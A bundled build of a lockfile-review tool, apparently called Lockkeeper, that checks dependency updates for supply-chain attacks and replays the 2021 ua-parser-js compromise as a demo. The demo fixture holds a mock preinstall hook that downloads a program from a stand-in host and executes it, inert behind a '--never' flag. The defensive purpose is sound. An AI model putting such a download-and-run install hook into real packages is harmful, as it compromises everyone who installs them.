import { createRequire as __createRequire } from 'node:module'
const require = __createRequire(import.meta.url)
import {
  createDomains,
  createRegistry,
  formatOneIn,
  freshness,
  isIntroduced,
  isMeasured,
  judgeChange,
  learn,
  nearestLower,
  noHabits,
  noOrigins,
  openBuiltInspector,
  openCache,
  openProgress,
  openSources,
  pages,
  profileOf,
  publicRegistry,
  rarityOf,
  rarityOf2,
  remarksOf,
  renderHtml,
  renderJson,
  renderMarkdown,
  renderSarif,
  review,
  signals,
  stepNames,
  stepOf as stepOf2,
  steps,
  userCacheFolder,
  withSecondSource
} from "./chunk-W5VSXXNE.js";
import {
  codeOf,
  wantsColour
} from "./chunk-YEYKSVOS.js";
import {
  byFile,
  commonGaps,
  count,
  gaps,
  gapsOf,
  headline,
  plain,
  retryAdvice,
  someOf,
  sortOut,
  stepOf,
  subjectOf,
  versionsOf,
  visible
} from "./chunk-FYCH5WVL.js";
import "./chunk-IHSDLQ7C.js";
import {
  changeLevels,
  combinations,
  defaultPolicy,
  formatInstant,
  formatSpan,
  isInternal,
  policyFor,
  projectLevels,
  require_semver,
  wantsContent,
  wantsDomains
} from "./chunk-C2UIMXD4.js";
import "./chunk-LL2VYCMV.js";
import {
  UserError
} from "./chunk-T5K6BPJA.js";
import {
  __toESM
} from "./chunk-YVJ3UYDI.js";

// src/forge/git.ts
import { spawn } from "node:child_process";
import { resolve } from "node:path";
var maxFileBytes = 50 * 1024 * 1024;
var openGitSource = async (request) => {
  const { repository, progress } = request;
  const git = (...args) => runGit(repository, args);
  const [head, tip] = await Promise.all([
    commitOf(git, request.head, repository),
    request.base === void 0 ? defaultBranch(git, repository) : commitOf(git, request.base, repository)
  ]);
  const base = await mergeBase(git, tip, head, progress);
  const listing = /* @__PURE__ */ new Map();
  return {
    base,
    head,
    changedFiles: async () => parseRawDiff(
      await must(
        git("diff-tree", "-r", "-z", "--raw", "--no-renames", "--ignore-submodules=none", base, head)
      )
    ),
    files(side) {
      const revision = side === "base" ? base : head;
      const found = listing.get(side) ?? must(git("ls-tree", "-r", "-z", revision)).then(parseTree);
      listing.set(side, found);
      return found;
    },
    read: (entries) => readBlobs(repository, [...new Set(entries.map((entry3) => entry3.id))])
  };
};
var commitOf = async (git, revision, repository) => {
  const answer = await git("rev-parse", "--verify", "--quiet", "--end-of-options", `${revision}^{commit}`);
  const id = answer.stdout.toString().trim();
  if (answer.code === 0 && /^[0-9a-f]+$/.test(id)) return id;
  await mustBeRepository(git, repository);
  const shallow = (await git("rev-parse", "--is-shallow-repository")).stdout.toString().trim() === "true";
  throw new UserError(
    `The revision "${revision}" is not in ${resolve(repository)}. ` + (shallow ? `This clone is shallow: fetch it with "git fetch --depth=1 origin ${revision}" (in GitHub Actions: fetch-depth: 0).` : `Fetch it with "git fetch origin ${revision}", or check the spelling.`)
  );
};
var mustBeRepository = async (git, repository) => {
  const answer = await git("rev-parse", "--git-dir");
  if (answer.code === 0) return;
  if (answer.stderr.includes("safe.directory")) {
    throw new UserError(
      `git does not read ${resolve(repository)}, because it belongs to another user. Allow it with "git config --global --add safe.directory ${resolve(repository)}".`
    );
  }
  throw new UserError(
    `${resolve(repository)} is not a git repository. Run inside one, or name it with --repo.`
  );
};
var defaultBranch = async (git, repository) => {
  for (const name of ["origin/HEAD", "origin/main", "origin/master", "heads/main", "heads/master"]) {
    const reference = name.startsWith("origin/") ? `refs/remotes/${name}` : `refs/${name}`;
    const answer = await git("rev-parse", "--verify", "--quiet", `${reference}^{commit}`);
    if (answer.code === 0) return answer.stdout.toString().trim();
  }
  await mustBeRepository(git, repository);
  throw new UserError(
    `${resolve(repository)} has no default branch to compare with. Name the base with --base.`
  );
};
var mergeBase = async (git, tip, head, progress) => {
  const answer = await git("merge-base", tip, head);
  if (answer.code === 0) return answer.stdout.toString().trim();
  if (tip !== head)
    progress(`No common ancestor of base and head is in this clone: comparing the two commits as they are.`);
  return tip;
};
var gitEnvironment = () => {
  const kept = Object.entries(process.env).filter(([name]) => !overruling.has(name));
  return { ...Object.fromEntries(kept), LC_ALL: "C" };
};
var overruling = /* @__PURE__ */ new Set([
  "GIT_DIR",
  "GIT_WORK_TREE",
  "GIT_COMMON_DIR",
  "GIT_INDEX_FILE",
  "GIT_PREFIX"
]);
var runGit = (repository, args) => new Promise((done, reject) => {
  const child = spawn("git", ["--no-optional-locks", "-C", repository, ...args], {
    env: gitEnvironment(),
    stdio: ["ignore", "pipe", "pipe"]
  });
  const out = [];
  const err = [];
  child.stdout.on("data", (chunk) => out.push(chunk));
  child.stderr.on("data", (chunk) => err.push(chunk));
  child.on(
    "error",
    (error) => reject(new UserError(`git could not be started: ${error.message}. Install git.`))
  );
  child.on(
    "close",
    (code) => done({ code: code ?? 1, stdout: Buffer.concat(out), stderr: Buffer.concat(err).toString().trim() })
  );
});
var must = async (pending) => {
  const answer = await pending;
  if (answer.code !== 0) throw new UserError(`git could not read the repository: ${answer.stderr}`);
  return answer.stdout.toString();
};
var parseRawDiff = (text) => {
  const parts = text.split("\0");
  const changed = [];
  for (let i = 0; i + 1 < parts.length; i += 2) {
    const [modeBefore = "", modeAfter = "", idBefore = "", idAfter = ""] = (parts[i] ?? "").slice(1).split(" ");
    const path = parts[i + 1] ?? "";
    changed.push({ path, before: entry(path, modeBefore, idBefore), after: entry(path, modeAfter, idAfter) });
  }
  return changed;
};
var parseTree = (text) => text.split("\0").flatMap((record) => {
  const tab = record.indexOf("	");
  const [mode = "", , id = ""] = record.slice(0, tab).split(" ");
  return entry(record.slice(tab + 1), mode, id) ?? [];
});
var entry = (path, mode, id) => {
  switch (mode) {
    case "100644":
    case "100755":
    case "100664":
      return { path, kind: "file", id };
    case "120000":
      return { path, kind: "symlink", id };
    case "160000":
      return { path, kind: "submodule", id };
    default:
      return void 0;
  }
};
var readBlobs = (repository, ids) => new Promise((done, reject) => {
  const blobs = /* @__PURE__ */ new Map();
  if (ids.length === 0) return done(blobs);
  const child = spawn("git", ["--no-optional-locks", "-C", repository, "cat-file", "--batch"], {
    env: gitEnvironment(),
    stdio: ["pipe", "pipe", "ignore"]
  });
  let missing;
  let answered = 0;
  let header = Buffer.alloc(0);
  let current;
  let left = 0;
  let chunks = [];
  const take = (data) => {
    let rest = data;
    while (rest.length > 0) {
      if (current === void 0) {
        const end = rest.indexOf(10);
        header = Buffer.concat([header, end === -1 ? rest : rest.subarray(0, end)]);
        if (end === -1) return;
        rest = rest.subarray(end + 1);
        const [id = "", type = "", size = ""] = header.toString().split(" ");
        header = Buffer.alloc(0);
        answered++;
        if (type === "missing") missing = id;
        else {
          current = { id, size: Number(size), keep: type === "blob" && Number(size) <= maxFileBytes };
          left = current.size + 1;
        }
      } else {
        const part = rest.subarray(0, left);
        if (current.keep) chunks.push(part);
        left -= part.length;
        rest = rest.subarray(part.length);
        if (left === 0) {
          if (current.keep) blobs.set(current.id, Buffer.concat(chunks).subarray(0, current.size));
          chunks = [];
          current = void 0;
        }
      }
    }
  };
  child.stdout.on("data", take);
  child.on(
    "error",
    (error) => reject(new UserError(`git could not be started: ${error.message}. Install git.`))
  );
  child.stdin.on("error", () => void 0);
  child.on("close", () => {
    const lacking = missing ?? current?.id ?? ids[answered];
    if (lacking === void 0) done(blobs);
    else
      reject(
        new UserError(
          `The object ${lacking} is not in this clone. Fetch it with "git fetch --refetch origin".`
        )
      );
  });
  child.stdin.end(`${ids.join("\n")}
`);
});

// src/reporters/text.ts
var renderText = (review2, { colour }) => {
  const paint = colour ? colours : plainly;
  const { told, unproven, quiet } = sortOut(review2);
  const common = commonGaps(review2.changes);
  const base = visible(review2.base.revision.slice(0, 12));
  const head = visible(review2.head.revision.slice(0, 12));
  return [
    `${paint[review2.verdict](review2.verdict.toUpperCase())}  ${headline(review2)}.`,
    `  base ${base}  head ${head}  as of ${formatInstant(review2.asOf)}`,
    ...byFile(review2.project.findings).flatMap((findings) => [
      "",
      `${mark(findings[0].level, paint)} ${paint.strong(visible(findings[0].path))}`,
      ...findings.flatMap((finding) => findingLines(finding, paint))
    ]),
    ...told.flatMap((change) => ["", ...changeLines(change, common, paint)]),
    ...notVerified(unproven, paint),
    ...ordinary(quiet, paint),
    ...coverage(review2),
    ...review2.terms.said.map((sentence) => `  · ${plain(sentence)}`),
    ...review2.leftOut.length === 0 ? [] : [`Left out by the policy: ${review2.leftOut.map(visible).join(", ")}`],
    ""
  ].join("\n");
};
var plainly = { pass: String, warn: String, block: String, strong: String, dim: String };
var sgr = (code) => (text) => `\x1B[${code}m${text}\x1B[0m`;
var colours = { pass: sgr(32), warn: sgr(33), block: sgr(31), strong: sgr(1), dim: sgr(2) };
var verdictLevel = { pass: "note", warn: "warn", block: "block" };
var mark = (level, paint) => {
  switch (level) {
    case "block":
      return paint.block("✖");
    case "warn":
      return paint.warn("▲");
    case "note":
      return paint.dim("·");
  }
};
var changeLines = (reviewed, common, paint) => {
  const { change, findings, verdict } = reviewed;
  const rarity = rarityOf2(reviewed);
  return [
    `${mark(verdictLevel[verdict], paint)} ${paint.strong(visible(subjectOf(change).name))} ${step(reviewed)}  ${paint.dim(place(reviewed))}`,
    ...findings.flatMap((finding) => findingLines(finding, paint)),
    ...rarity === void 0 ? [] : [`    ${rarity}`],
    ...profileLines(reviewed, "    ", paint),
    ...change.introducedBy.map((way) => way.filter((part) => part !== ".")).filter((way) => way.length > 0).map((way) => `    ${paint.dim(`by way of ${way.map(visible).join(" > ")}`)}`),
    ...gapsOf(reviewed, common).map(
      ({ detail, signals: signals2 }) => `    ${paint.dim(`not judged: ${signals2.join(", ")} (${visible(detail)})`)}`
    )
  ];
};
var profileLines = (reviewed, indent, paint) => profileOf(reviewed).map(
  (line, at) => `${indent}${paint.dim(`${at === 0 ? "new here: " : "  "}${plain(line)}`)}`
);
var findingLines = (finding, paint) => {
  const { signal, level, message } = finding;
  const remarks = plain(remarksOf(finding));
  return [
    `    ${mark(level, paint)} ${signal}: ${plain(message)}`,
    ...remarks === "" ? [] : [`      ${paint.dim(remarks)}`]
  ];
};
var step = ({ change }) => {
  const { from, to } = versionsOf(change);
  if (from === void 0) return `${visible(to ?? "")} (added)`;
  if (to === void 0) return `${visible(from)} (removed)`;
  return from === to ? `${visible(to)} (${change.kind})` : `${visible(from)} -> ${visible(to)}`;
};
var place = ({ change }) => `${change.direct ? "direct" : "transitive"}, ${change.scope}, ${change.lockfiles.map(visible).join(", ")}`;
var notVerified = (unproven, paint) => unproven.length === 0 ? [] : [
  "",
  `${mark("block", paint)} ${paint.strong(`${count(unproven.length, "change")} could not be verified`)}`,
  ...gaps(unproven).map(
    ({ detail, packages }) => `    · ${visible(detail)} ${someOf(packages, visible)}.`
  ),
  `    ${retryAdvice}`
];
var maxListed = 40;
var ordinary = (quiet, paint) => quiet.length === 0 ? [] : [
  "",
  `${count(quiet.length, "ordinary change")}:`,
  // What somebody chose to add stands first: of what it brings along, the number may be enough.
  ...quiet.toSorted((a, b) => Number(isIntroduced(b)) - Number(isIntroduced(a))).slice(0, maxListed).flatMap((one) => [
    `  · ${visible(subjectOf(one.change).name)} ${step(one)}`,
    ...isIntroduced(one) ? profileLines(one, "      ", paint) : []
  ]),
  ...quiet.length > maxListed ? [`  · and ${quiet.length - maxListed} more`] : []
];
var coverage = (review2) => {
  const { changes, judged, unverified } = review2.coverage;
  const { told, quiet } = sortOut(review2);
  return changes === 0 ? [] : [
    "",
    `Coverage: ${judged} of ${count(changes, "change")} judged in full${unverified === 0 ? "." : `, ${unverified} in part or not at all.`}`,
    ...gaps([...told, ...quiet]).map(
      ({ detail, signals: signals2, packages }) => `  · ${visible(detail)} Not judged for ${someOf(packages, visible)}: ${signals2.join(", ")}.`
    )
  ];
};

// src/demo/recording.ts
var asOf = Date.parse("2021-10-22T13:30:00Z");
var release = (publisher) => (version, publishedAt) => ({ version, publishedAt, publisher });
var faisalman = release("faisalman");
var sindresorhus = release("sindresorhus");
var preinstall = `const { exec } = require('child_process')
const https = require('https')
if (process.argv.includes('--never')) {
  https.get('https://files.example.test/program', () => exec('./program'))
}
`;
var recording = [
  {
    name: "ua-parser-js",
    base: "0.7.28",
    head: "0.7.29",
    releases: [
      faisalman("0.7.24", "2021-02-12T02:07:00.000Z"),
      faisalman("0.7.25", "2021-04-02T09:18:00.000Z"),
      faisalman("0.7.26", "2021-04-02T15:15:00.000Z"),
      faisalman("0.7.27", "2021-04-02T16:54:00.000Z"),
      faisalman("0.7.28", "2021-04-10T00:57:00.000Z"),
      {
        ...faisalman("0.7.29", "2021-10-22T12:15:21.000Z"),
        scripts: { preinstall: "start /B node preinstall.js & node preinstall.js" },
        files: { "preinstall.js": preinstall }
      }
    ]
  },
  {
    name: "chalk",
    base: "4.1.1",
    head: "4.1.2",
    releases: [
      sindresorhus("4.0.0", "2020-04-02T08:20:00.000Z"),
      sindresorhus("4.1.0", "2020-06-09T07:38:00.000Z"),
      sindresorhus("4.1.1", "2021-04-21T13:02:00.000Z"),
      sindresorhus("4.1.2", "2021-07-30T12:02:00.000Z")
    ]
  }
];

// src/demo/registry.ts
import { createServer } from "node:http";

// src/demo/archive.ts
import { createHash } from "node:crypto";
import { gzipSync } from "node:zlib";
var archiveOf = ({ name }, release2) => {
  const { version, scripts, files } = release2;
  const manifest = { name, version, scripts: scripts ?? { test: "node test.js" } };
  const contents = {
    "package.json": `${JSON.stringify(manifest, null, 2)}
`,
    "index.js": `module.exports = '${name}'
`,
    ...files
  };
  const tar = Buffer.concat([
    ...Object.entries(contents).flatMap(([path, text]) => entry2(path, text)),
    Buffer.alloc(1024)
  ]);
  const bytes = gzipSync(tar, { level: 0 });
  bytes[8] = 0;
  bytes[9] = 255;
  return { bytes, integrity: `sha512-${createHash("sha512").update(bytes).digest("base64")}` };
};
var entry2 = (path, text) => {
  const content = Buffer.from(text);
  const header = Buffer.alloc(512);
  const octal = (value, length) => value.toString(8).padStart(length - 1, "0");
  header.write(`package/${path}`, 0);
  header.write(octal(420, 8), 100);
  header.write(octal(0, 8), 108);
  header.write(octal(0, 8), 116);
  header.write(octal(content.length, 12), 124);
  header.write(octal(0, 12), 136);
  header.write(" ".repeat(8), 148);
  header.write("0", 156);
  header.write("ustar\x0000", 257);
  header.write(
    `${octal(
      header.reduce((sum, byte) => sum + byte, 0),
      7
    )}\0 `,
    148
  );
  return [header, content, Buffer.alloc((512 - content.length % 512) % 512)];
};

// src/demo/registry.ts
var startRegistry = async (packages) => {
  const answers = /* @__PURE__ */ new Map([["/-/npm/v1/security/advisories/bulk", "{}"]]);
  const server = createServer((request, response) => {
    const body = answers.get(request.url ?? "");
    response.writeHead(body === void 0 ? 404 : 200, { "content-type": "application/json" });
    response.end(body ?? "{}");
  });
  await new Promise((resolve2, reject) => {
    server.once("error", reject);
    server.listen(0, "127.0.0.1", resolve2);
  });
  const url = `http://127.0.0.1:${server.address().port}/`;
  for (const one of packages) {
    answers.set(`/${one.name}`, JSON.stringify(packumentOf(one, url)));
    for (const release2 of one.releases)
      answers.set(`/${pathOf(one.name, release2.version)}`, archiveOf(one, release2).bytes);
  }
  return {
    url,
    close: () => new Promise((resolve2) => {
      server.close(() => resolve2());
      server.closeAllConnections();
    })
  };
};
var pathOf = (name, version) => `${name}/-/${name}-${version}.tgz`;
var packumentOf = (one, url) => {
  const { name, releases } = one;
  return {
    name,
    versions: Object.fromEntries(releases.map((release2) => [release2.version, manifestOf(one, release2, url)])),
    time: {
      created: releases[0]?.publishedAt,
      modified: releases.at(-1)?.publishedAt,
      ...Object.fromEntries(releases.map(({ version, publishedAt }) => [version, publishedAt]))
    }
  };
};
var manifestOf = (one, release2, url) => ({
  name: one.name,
  version: release2.version,
  scripts: release2.scripts ?? { test: "node test.js" },
  _npmUser: { name: release2.publisher },
  maintainers: [{ name: release2.publisher }],
  dist: {
    tarball: url + pathOf(one.name, release2.version),
    integrity: archiveOf(one, release2).integrity
  }
});

// src/demo/repository.ts
import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
var makeRepository = (packages) => {
  const folder = mkdtempSync(join(tmpdir(), "lockkeeper-demo-"));
  const git = (input, ...args) => {
    const { error, status, stdout, stderr } = spawnSync("git", ["-C", folder, ...args], {
      input,
      env: { ...gitEnvironment(), ...identity },
      encoding: "utf8"
    });
    if (error !== void 0) throw new UserError(`git could not be started: ${error.message}. Install git.`);
    if (status !== 0) throw new UserError(`git could not make the repository of the demo: ${stderr.trim()}`);
    return stdout.trim();
  };
  git("", "init", "--quiet", "--bare");
  const commit = (side, ...parents) => {
    const tree = [...filesOf(packages, side)].map(
      ([name, text]) => `100644 blob ${git(text, "hash-object", "-w", "--stdin")}	${name}
`
    );
    return git(
      "",
      "commit-tree",
      "-m",
      side,
      ...parents.flatMap((parent) => ["-p", parent]),
      git(tree.join(""), "mktree")
    );
  };
  const base = commit("base");
  return {
    folder,
    base,
    head: commit("head", base),
    remove: () => rmSync(folder, { recursive: true, force: true })
  };
};
var identity = {
  GIT_CONFIG_GLOBAL: "/dev/null",
  GIT_CONFIG_NOSYSTEM: "1",
  GIT_AUTHOR_NAME: "demo",
  GIT_AUTHOR_EMAIL: "demo@example.test",
  GIT_AUTHOR_DATE: "2021-10-22T13:00:00Z",
  GIT_COMMITTER_NAME: "demo",
  GIT_COMMITTER_EMAIL: "demo@example.test",
  GIT_COMMITTER_DATE: "2021-10-22T13:00:00Z"
};
var filesOf = (packages, side) => {
  const project = {
    name: "demo",
    version: "1.0.0",
    dependencies: Object.fromEntries(packages.map((one) => [one.name, `^${one[side]}`]))
  };
  const entries = { "": project };
  for (const one of packages) {
    entries[`node_modules/${one.name}`] = {
      version: one[side],
      integrity: integrityOf(one, one[side]),
      hasInstallScript: hasHook(one, side) ? true : void 0
    };
  }
  const { name, version } = project;
  const lockfile = { name, version, lockfileVersion: 3, requires: true, packages: entries };
  return /* @__PURE__ */ new Map([
    ["package-lock.json", `${JSON.stringify(lockfile, null, 2)}
`],
    ["package.json", `${JSON.stringify(project, null, 2)}
`]
  ]);
};
var hasHook = (one, side) => one.releases.some(({ version, scripts }) => version === one[side] && scripts !== void 0);
var integrityOf = (one, version) => {
  const release2 = one.releases.find((found) => found.version === version);
  return release2 && archiveOf(one, release2).integrity;
};

// src/demo/demo.ts
var demo = async ({ colour, command, write }) => {
  write(introduction);
  const result = await reviewRecording();
  write(`${renderText(result, { colour })}
`);
  write(result.verdict === "block" ? ending(command) : broken);
  return result.verdict === "block" ? 0 : 1;
};
var reviewRecording = async () => {
  const progress = () => void 0;
  const { folder, base, head, remove } = makeRepository(recording);
  const server = await startRegistry(recording);
  const registry = createRegistry({ url: server.url });
  try {
    const source = await openGitSource({ repository: folder, base, head, progress });
    return await review({ source, registry, policy: defaultPolicy, asOf, progress });
  } finally {
    await registry.close();
    await server.close();
    remove();
  }
};
var introduction = `A pull request of 22 October 2021 bumps two packages. One of the new releases is 75 minutes old and was
published with a stolen account; no malware feed knows it yet. A registry on this machine replays that
moment. This is what a reviewer would have seen:

`;
var ending = (command) => `The check would have failed (exit code 1). The demo itself succeeded, so it ends with 0.

On your own repository, on a branch that bumps a dependency:

  ${command} review                      compare with the default branch
  ${command} review --base HEAD~1        compare with the commit before

As a required check on every pull request: see README.md, "The workflow".
`;
var broken = "The recorded attack was not blocked: this build of Lockkeeper is broken.\n";

// src/explain/explain-release.ts
var import_semver2 = __toESM(require_semver(), 1);

// src/explain/step-to.ts
var import_semver = __toESM(require_semver(), 1);
var around = { lockfiles: [], direct: true, scope: "prod", introducedBy: [] };
var stepTo = (name, version, before) => {
  const after = locked(name, version);
  if (before === void 0) return { kind: "added", after, ...around };
  const kind = import_semver.default.lt(before, version) ? "updated" : "downgraded";
  return { kind, before: locked(name, before), after, ...around };
};
var locked = (name, version) => ({
  key: `${name}@${version}`,
  name,
  version,
  resolution: { kind: "registry", resolved: void 0, integrity: void 0 },
  aliases: [],
  hasInstallScript: void 0,
  bundled: false,
  os: [],
  cpu: []
});

// src/explain/fold.ts
var widest = 100;
var folded = (text, indent, later = indent) => {
  const lines = [];
  let line = indent;
  for (const word of text.split(" ")) {
    const isFirst = line === indent || line === later;
    if (!isFirst && line.length + 1 + word.length > widest) {
      lines.push(line);
      line = later + word;
    } else line = isFirst && line.trim() === "" ? line + word : `${line} ${word}`;
  }
  return [...lines, line];
};

// src/explain/explanation-text.ts
var explanationText = (explanation) => {
  const { decided, asOf: asOf2, publishedAt } = explanation;
  const { change, verdict } = decided;
  const age = publishedAt === void 0 ? "" : `, public for ${formatSpan(asOf2 - publishedAt)}`;
  return [
    `${verdict.toUpperCase()}  ${visible(subjectOf(change).name)} ${stepOf(change, visible)}, judged as one of ${stepNames[stepOf2(change)]}`,
    `  as of ${formatInstant(asOf2)}${age}`,
    ...flagged(decided),
    ...weighed(explanation),
    ...notJudged(decided),
    ...others(explanation),
    "",
    "What only a lockfile tells, such as its hash and its address, is not looked at here.",
    ""
  ].join("\n");
};
var flagged = ({ findings }) => findings.length === 0 ? [] : [
  "",
  "Flagged:",
  ...findings.flatMap((finding) => {
    const remarks = plain(remarksOf(finding));
    return [
      ...folded(
        `${finding.level.padEnd(6)}${finding.signal}: ${plain(finding.message)}`,
        "  ",
        "        "
      ),
      ...remarks === "" ? [] : folded(remarks, "        ")
    ];
  })
];
var weighed = ({ decided, policy, asOf: asOf2, publishedAt }) => {
  const { findings, rarity } = decided;
  const signs = findings.filter((finding) => finding.rarity !== void 0);
  if (signs.length === 0) return [];
  const part = freshness(publishedAt === void 0 ? void 0 : asOf2 - publishedAt);
  const together = rarity === void 0 ? "One sign counts by itself." : `Together they come to 1 in ${formatOneIn(rarity.oneIn)} ${rarity.of}${rarity.measured ? "" : ", by estimate in part"}.`;
  const age = part === 1 ? "" : part === 0 ? " The release has been public for so long that they no longer count." : " The release has been public for more than a week, so that they count half.";
  const { warn, block } = policy.rarity;
  return [
    "",
    ...folded(
      `Weighed: ${together}${age} It warns from 1 in ${formatOneIn(warn)} on and blocks from 1 in ${formatOneIn(block)} on.`,
      "",
      "  "
    )
  ];
};
var notJudged = ({ unverified }) => unverified.length === 0 ? [] : [
  "",
  "Not judged:",
  ...unverified.flatMap(
    ({ signal, reason, detail }) => folded(`${signal} (${reason}): ${visible(detail)}`, "  ", "    ")
  )
];
var others = ({ decided, outcomes, policy }) => {
  const told = new Set([...decided.findings, ...decided.unverified].map(({ signal }) => signal));
  const rest = signals.filter(({ id }) => !told.has(id));
  const clear = rest.filter(({ id }) => outcomes.get(id)?.kind === "clear" && policy.levels.get(id) !== "off");
  const off = rest.filter(({ id }) => policy.levels.get(id) === "off");
  const notFor = rest.filter((one) => !clear.includes(one) && !off.includes(one));
  return [
    ...clear.length === 0 ? [] : ["", "Clear:", ...clear.map(({ id, asks }) => `  ${id.padEnd(26)}${asks}`)],
    ...listed(
      "Switched off by the policy",
      off.map(({ id }) => id)
    ),
    ...listed(
      "Not for such a change",
      notFor.map(({ id }) => id)
    )
  ];
};
var listed = (title, ids) => ids.length === 0 ? [] : ["", ...folded(`${title}: ${ids.join(", ")}`, "", "  ")];

// src/explain/explain-release.ts
var explainRelease = async (question) => {
  const { name, registry, policy, asOf: asOf2 } = question;
  const document = await registry.packument(name);
  const packument = valueOf(document);
  const version = question.version === "latest" ? packument.latest ?? "latest" : question.version;
  const release2 = packument.releases.get(version);
  if (release2 === void 0)
    throw new UserError(
      `The registry has no version ${version} of ${name}. Say one that it has, or "latest".`
    );
  const before = nearestLower(valueOf(release2), packument, asOf2)?.version;
  const change = stepTo(name, version, before);
  const world = worldOf(registry, document, question);
  const [first] = await learn([change], world);
  const brought = first === void 0 ? [] : await broughtBy(first, registry, asOf2);
  const [sheet = first] = brought.length === 0 ? [first] : await learn([change, ...brought], world);
  if (sheet === void 0) throw new Error("Every change has its sheet.");
  const { reviewed, outcomes, policy: own } = judgeChange(change, sheet, policy, asOf2);
  const publishedAt = sheet.publishedAt.known ? sheet.publishedAt.value : void 0;
  return explanationText({ decided: reviewed, outcomes, policy: own, asOf: asOf2, publishedAt });
};
var valueOf = (fact) => {
  if (fact.known) return fact.value;
  throw new UserError(`Nothing can be said of it. ${fact.detail}`);
};
var worldOf = (registry, document, { name, policy, asOf: asOf2, domains, inspector }) => ({
  // The document is large, and was read already.
  registry: {
    ...registry,
    packument: (other) => other === name ? Promise.resolve(document) : registry.packument(other)
  },
  asOf: asOf2,
  origins: noOrigins,
  configured: () => void 0,
  habits: noHabits,
  namesAtBase: /* @__PURE__ */ new Set([name]),
  scriptsHere: () => ({ manager: "your package manager", run: void 0, setting: void 0 }),
  wantsContent: (change) => wantsContent(change, policyFor(change, policy)),
  inspector,
  domains: (change) => wantsDomains(change, policy) ? domains : void 0
});
var mostBrought = 20;
var broughtBy = async ({ newDependencies }, registry, asOf2) => {
  const asked = newDependencies.known ? newDependencies.value.slice(0, mostBrought) : [];
  const found = await Promise.all(
    asked.map(async ({ name, range }) => {
      const packument = await registry.packument(name);
      if (!packument.known) return [];
      const there = [...packument.value.releases].flatMap(
        ([version2, release2]) => release2.known && (release2.value.publishedAt ?? asOf2) <= asOf2 ? [version2] : []
      );
      const version = import_semver2.default.maxSatisfying(there, range);
      return version === null ? [] : [stepTo(name, version, void 0)];
    })
  );
  return found.flat();
};

// src/explain/decisions.ts
var decisions = /* @__PURE__ */ new Map([
  // generated: begin
  [
    "integrity-changed",
    [
      "It compares both sides of the lockfile; no registry is asked.",
      "- The address: another one is flagged. The names under which the public registry stands in lockfiles, and the address of the registry you configured, count as the same place.",
      "- The hash: another hash of the same algorithm is flagged. Where one side has no hash, or only one of another algorithm (`sha1` to `sha512`), there is nothing that contradicts, and it is clear.",
      "- The kind: an entry that came from the registry and now comes from git, a folder or an archive elsewhere is flagged, as is a git dependency with another commit under the same version.",
      "It blocks."
    ]
  ],
  [
    "integrity-mismatch",
    [
      "It compares what the lockfile names with what the registry's document names for that name and version, algorithm by algorithm: sha512, and the older sha1, which Yarn classic also writes behind the address. One hash that the registry does not name blocks, also when the right one stands beside it, since an installer takes either.",
      "An algorithm that only one side has is not compared. Yarn berry writes a checksum of a zip that it packs itself; no registry knows it, so for those lockfiles there is nothing to compare. The signal says nothing about the tarball itself: nothing is downloaded."
    ]
  ],
  [
    "integrity-weak",
    [
      "A locked package is weak if it has no sha512, sha384 or sha256. What is weak and is new is compared with two things:",
      "- itself at base. If base had a strong hash for it, an update, a step back or another address that has none is flagged.",
      "- its neighbours. The other packages of the same lockfile that come from the same host. If at least 95 of 100 have a strong hash, a new package without one is flagged in a milder form.",
      "If neither the neighbours nor base keep to strong hashes (95 of 100), nothing is unusual and nothing is said: old installers wrote lockfiles that mix both, and some registries give no sha512 at all. The same holds if the registry itself names no sha512 for the release.",
      "Versions that stay the same and lose their hash are told once for each lockfile, as a finding about the file.",
      "Not asked about: packages from git and folders, what is bundled in another package, and Yarn 2 and later, whose checksums are of a zip that Yarn packs itself. Yarn classic writes a sha1 behind the address; with a sha512 beside it, all is well.",
      "It warns. The milder form is a note."
    ]
  ],
  [
    "resolved-elsewhere",
    [
      "It learns from the lockfiles of base which hosts this repository uses, scope by scope. It reads nothing of that from head.",
      "- An update that changes the host of this very package blocks.",
      "- An added package from a host that base does not use for its scope blocks. For a scope that base does not know, any host of base will do.",
      "- On the registry that was asked, the path must be the one that the registry itself gives for that name and version. Another package's path, or another version's, blocks.",
      "- Credentials in the address block.",
      "- `http` and `https` are two hosts: a fall from one to the other is a change of host.",
      "- Where base has no lockfile, or gives no addresses, a host other than the registry warns.",
      "The names npm and Yarn have for the public registry count as one, and so does the registry that you configured. Lockfiles of pnpm, Yarn berry and Bun mostly give no address; then there is nothing to ask."
    ]
  ],
  [
    "signature-invalid",
    [
      "The signature in the registry's document is verified with the keys of the public registry, which are built in, and with those that the registry you ask names itself. A built-in key cannot be replaced; the registry can only end it.",
      "It flags when a key that is known did not sign this, or had ended when the release came out. It blocks.",
      'No signature, or one by a key that nobody knows, proves nothing either way: the first clears, the second is said under "not judged".'
    ]
  ],
  [
    "provenance-invalid",
    [
      "Where the registry says that it holds attestations, they are fetched and verified here, without asking anybody else: the signature, the certificate, the log entry, the name and version, and the sha512, which has to be the one that the lockfile holds. What they are verified by is built in, with its source and date. A statement by a key, an authority or a log that is not known is unknown, not wrong.",
      "It blocks. That a statement is right never lowers another finding: stolen pipelines sign as well as honest ones."
    ]
  ],
  [
    "tarball-mismatch",
    [
      "The archive is fetched from where the lockfile says, if that is the registry, and its hash is made. It is held against the hash that the lockfile names; of several algorithms only the strongest counts, as for npm. Where the lockfile names none, or only a checksum of its own as Yarn does, it is held against the hash that the registry names.",
      "It blocks, at any age. There is no milder form. `integrity-mismatch` asks the same of the registry's document, without the archive; when both flag, it is the lockfile that differs. When only this one does, it is the archive."
    ]
  ],
  [
    "odd-archive",
    [
      "The archive is read as npm's own reader does it, and whatever other readers would take differently is noted.",
      "In full it flags sizes that are stated twice, damaged or skipped headers, data behind the end, paths that lead out of the package, devices, a small archive that expands to hundreds of times its size, and forms of compression that only some installers read.",
      "In its milder form it flags what clumsy tools of old times wrote, and what all installers leave out or read alike: links, paths that stand twice or differ in case only, several folders at the top, odd paths, bits of rights, no compression. An archive whose files cannot be read is its milder form too, and one that takes more time, memory or room than the policy allows.",
      "The full form blocks and the milder one warns, at any age."
    ]
  ],
  [
    "manifest-confusion",
    [
      "The archive of the release is fetched from the registry, held against the hash that the lockfile names, and read. Nothing of it is written to a disk or run. It is compared with the archive of the version before: the one base locks, or the nearest lower one that has been public for a month where base is further behind.",
      "In full it flags when the archive",
      "- gives itself another name or another version;",
      "- has a `preinstall`, `install` or `postinstall` that the registry does not show, or another command for it;",
      "- asks for a dependency that the registry does not show.",
